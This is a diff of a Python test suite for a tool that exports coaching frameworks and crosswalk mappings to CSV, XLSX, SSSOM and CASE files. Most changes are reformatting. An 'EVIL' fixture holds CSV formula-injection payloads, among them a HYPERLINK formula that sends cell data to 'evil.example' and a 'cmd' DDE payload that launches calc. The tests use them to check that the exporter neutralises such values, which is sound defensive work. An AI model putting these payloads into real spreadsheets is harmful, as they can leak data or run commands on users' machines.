@@ -94,8 +94,9 @@ def test_csv_holds_every_item_and_mapping_and_nothing_else(tmp_path: Path, model
                     assert row["official_url"] == item.official_url
         for mset in model.mapping_sets:
             rows = _read_csv(files[f"crosswalk-{mset.id}-{lang}.csv"])
-            assert [(r["source_id"], r["relation"], r["target_id"]) for r in rows] == \
-                   [(m.source, m.relation, m.target) for m in mset.mappings]
+            assert [(r["source_id"], r["relation"], r["target_id"]) for r in rows] == [
+                (m.source, m.relation, m.target) for m in mset.mappings
+            ]
             for row, m in zip(rows, mset.mappings, strict=True):
                 assert row["rationale"] == _safe(m.rationale.get(lang))
                 assert row["skos"] == model.relation[m.relation].skos
@@ -124,8 +125,10 @@ def test_xlsx_holds_both_languages_of_every_item_and_mapping(tmp_path: Path, mod
     files = _export("xlsx", tmp_path)
     assert set(files) == {"coachref.xlsx"}
     wb = load_workbook(tmp_path / "coachref.xlsx")
-    assert wb.sheetnames == ["About"] + [f.id for f in model.frameworks] + [s.id for s in model.mapping_sets] + \
-        ["Coverage", "Relations"]
+    assert wb.sheetnames == ["About"] + [f.id for f in model.frameworks] + [s.id for s in model.mapping_sets] + [
+        "Coverage",
+        "Relations",
+    ]
     for framework in model.frameworks:
         ws = wb[framework.id]
         assert ws.freeze_panes == "A2"
@@ -146,10 +149,12 @@ def test_xlsx_holds_both_languages_of_every_item_and_mapping(tmp_path: Path, mod
     assert "cliënt" in "".join(r["text NL"] for r in _sheet_rows(wb["BVJN"]))
     for mset in model.mapping_sets:
         rows = _sheet_rows(wb[mset.id])
-        assert [(r["source id"], r["relation"], r["target id"]) for r in rows] == \
-               [(m.source, m.relation, m.target) for m in mset.mappings]
-        assert [(r["rationale EN"], r["rationale NL"]) for r in rows] == \
-               [(m.rationale.en, m.rationale.nl) for m in mset.mappings]
+        assert [(r["source id"], r["relation"], r["target id"]) for r in rows] == [
+            (m.source, m.relation, m.target) for m in mset.mappings
+        ]
+        assert [(r["rationale EN"], r["rationale NL"]) for r in rows] == [
+            (m.rationale.en, m.rationale.nl) for m in mset.mappings
+        ]
 
 
 def test_xlsx_coverage_counts_items_and_mapped_items(tmp_path: Path, model: Model) -> None:
@@ -184,25 +189,52 @@ def _text(value: str) -> Text:
 def _framework(fid: str, statements: list[str]) -> Framework:
     items = tuple(Item(f"{fid}:{n}", str(n), fid, f"{fid}:g", _text(s)) for n, s in enumerate(statements, 1))
     return Framework(
-        id=fid, folder=fid.lower(), title=_text(f"{fid} framework"), publisher=Label("P", "P"), reference=fid,
-        version="1", status="published", official_languages=("en",),
+        id=fid,
+        folder=fid.lower(),
+        title=_text(f"{fid} framework"),
+        publisher=Label("P", "P"),
+        reference=fid,
+        version="1",
+        status="published",
+        official_languages=("en",),
         licence=Licence("none", Label("None", "Geen"), _text("No licence")),
         sources=(Source("s", Label("S", "S"), "https://example.org/s"),),
-        groups=(Group(f"{fid}:g", "g", fid, _text("Group"), items),), date="2024-05-06", checked_on="2024-05-06",
+        groups=(Group(f"{fid}:g", "g", fid, _text("Group"), items),),
+        date="2024-05-06",
+        checked_on="2024-05-06",
     )
 
 
-EVIL = ['=HYPERLINK("https://evil.example/?x="&A1,"click me")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
-        "-2+3", "\t=1+1", "\r=1+1", "a plain client statement"]
+EVIL = [
+    '=HYPERLINK("https://evil.example/?x="&A1,"click me")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    "a plain client statement",
+]
 
 
 @pytest.fixture()
 def evil_model() -> Model:
-    relation = Relation("related", Label("Related", "Verwant"), _text("Related."), "skos:relatedMatch",
-                        "isRelatedTo", "related", 1, "~", "#bf360c")
+    relation = Relation(
+        "related",
+        Label("Related", "Verwant"),
+        _text("Related."),
+        "skos:relatedMatch",
+        "isRelatedTo",
+        "related",
+        1,
+        "~",
+        "#bf360c",
+    )
     mapping = Mapping("EVIL:1", "SAFE:1", "related", _text("=1+1 is the rationale"), "=team", "2024-05-07")
-    return Model((_framework("EVIL", EVIL), _framework("SAFE", ["safe"])), (relation,),
-                 (MappingSet("EVIL--SAFE", "EVIL", "SAFE", (mapping,)),))
+    return Model(
+        (_framework("EVIL", EVIL), _framework("SAFE", ["safe"])),
+        (relation,),
+        (MappingSet("EVIL--SAFE", "EVIL", "SAFE", (mapping,)),),
+    )
 
 
 def test_csv_neutralises_formulas(evil_model: Model) -> None:
@@ -267,8 +299,9 @@ def test_sssom_records_stay_on_one_line(evil_model: Model) -> None:
     rationale = _text("first line\tTAB\nNEWLINE\r\nCRLF \u2028 separator\u2029end")
     mapping = Mapping("EVIL:5", "SAFE:1", "related", rationale, "team", "2024-05-07")
     mset = evil_model.mapping_sets[0]
-    model = Model(evil_model.frameworks, evil_model.relations, (MappingSet(mset.id, mset.source, mset.target,
-                                                                           (mapping,)),))
+    model = Model(
+        evil_model.frameworks, evil_model.relations, (MappingSet(mset.id, mset.source, mset.target, (mapping,)),)
+    )
     files = EXPORTERS["sssom"](model, None)
     assert len(files) == 4
     for name, data in files.items():
@@ -288,8 +321,10 @@ def test_sssom_records_stay_on_one_line(evil_model: Model) -> None:
 
 def _case_validator() -> Draft202012Validator:
     if not CASE_SCHEMA.is_file():
-        pytest.skip(f"the CASE 1.1 schema is third-party reference data outside the project; {CASE_SCHEMA} "
-                    "is absent here (it is present in CI)")
+        pytest.skip(
+            f"the CASE 1.1 schema is third-party reference data outside the project; {CASE_SCHEMA} "
+            "is absent here (it is present in CI)"
+        )
     schema = json.loads(CASE_SCHEMA.read_text(encoding="utf-8"))
     return Draft202012Validator(schema, format_checker=FormatChecker())
 
@@ -339,8 +374,10 @@ def test_case_packages_validate_and_hold_the_model(tmp_path: Path, model: Model)
                 assert got == want or (want is None and a["destinationNodeURI"]["identifier"] == doc["identifier"])
             crosswalk = [a for a in package["CFAssociations"] if "relation" in a.get("extensions", {})]
             mappings = [m for s in model.mapping_sets if framework.id in (s.source, s.target) for m in s.mappings]
-            assert [(a["originNodeURI"]["title"], a["extensions"]["relation"], a["destinationNodeURI"]["title"])
-                    for a in crosswalk] == [(m.source, m.relation, m.target) for m in mappings]
+            assert [
+                (a["originNodeURI"]["title"], a["extensions"]["relation"], a["destinationNodeURI"]["title"])
+                for a in crosswalk
+            ] == [(m.source, m.relation, m.target) for m in mappings]
             for a, m in zip(crosswalk, mappings, strict=True):
                 relation = model.relation[m.relation]
                 assert a["associationType"] == relation.case_type
@@ -348,8 +385,11 @@ def test_case_packages_validate_and_hold_the_model(tmp_path: Path, model: Model)
                 assert m.rationale.get(lang) in a["notes"]
             assert len(by_type["isTranslationOf"]) == 1
     for framework in model.frameworks:  # the two documents point at each other's real identifiers
-        link = next(a for a in json.loads(files[f"{framework.id}-en.case.json"])["CFAssociations"]
-                    if a["associationType"] == "isTranslationOf")
+        link = next(
+            a
+            for a in json.loads(files[f"{framework.id}-en.case.json"])["CFAssociations"]
+            if a["associationType"] == "isTranslationOf"
+        )
         ends = {link["originNodeURI"]["identifier"], link["destinationNodeURI"]["identifier"]}
         assert ends == {documents[(framework.id, "en")], documents[(framework.id, "nl")]}
 
@@ -380,8 +420,9 @@ def test_two_exports_are_identical_byte_for_byte(tmp_path: Path, fmt: str) -> No
 
 
 @pytest.mark.parametrize("stage", ["render", "write"])
-def test_failed_export_leaves_previous_files_untouched(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
-                                                       stage: str) -> None:
+def test_failed_export_leaves_previous_files_untouched(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, stage: str
+) -> None:
     out = tmp_path / "out"
     before = _export("csv", out)
     (out / "ST0809-en.csv").write_bytes(b"an older export\r\n")  # so a rewrite would show
@@ -405,8 +446,7 @@ def test_failed_export_leaves_previous_files_untouched(tmp_path: Path, monkeypat
     assert sorted(p.name for p in out.iterdir()) == sorted(before), "temporary files left behind"
 
 
-def test_xlsx_prints_landscape_on_the_page_width_with_its_header_on_every_page(tmp_path: Path,
-                                                                               model: Model) -> None:
+def test_xlsx_prints_landscape_on_the_page_width_with_its_header_on_every_page(tmp_path: Path, model: Model) -> None:
     (tmp_path / "coachref.xlsx").write_bytes(EXPORTERS["xlsx"](model, None)["coachref.xlsx"])
     wb = load_workbook(tmp_path / "coachref.xlsx")
     assert wb.sheetnames[0] == "About"
